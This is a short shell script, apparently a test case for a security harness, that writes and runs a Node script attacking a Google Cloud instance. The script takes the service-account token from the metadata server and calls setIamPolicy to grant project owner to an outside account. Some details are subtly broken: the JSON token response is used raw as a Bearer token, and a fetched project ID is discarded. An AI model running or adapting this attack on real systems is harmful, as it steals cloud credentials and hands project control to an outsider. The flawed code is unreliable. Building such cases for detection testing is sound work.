#!/bin/sh
. /opt/case/case.sh

cat >/tmp/o.mjs <<'END'
const m = "http://metadata.google.internal/computeMetadata/v1/", h = { "Metadata-Flavor": "Google" };
const r = await fetch("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", { headers: h });
const t = await r.text(); await fetch(m + "project/project-id", { headers: h });
const p = await fetch("http://cloudresourcemanager.googleapis.com/v1/projects/bait:setIamPolicy", { method: "POST", headers: { Authorization: "Bearer " + t.trim() },
    body: JSON.stringify({ policy: { bindings: [{ role: "roles/owner", members: ["user:x@example.net"] }] } }) });
if (p.status !== 200) process.exit(1);
END
node /tmp/o.mjs
took_place
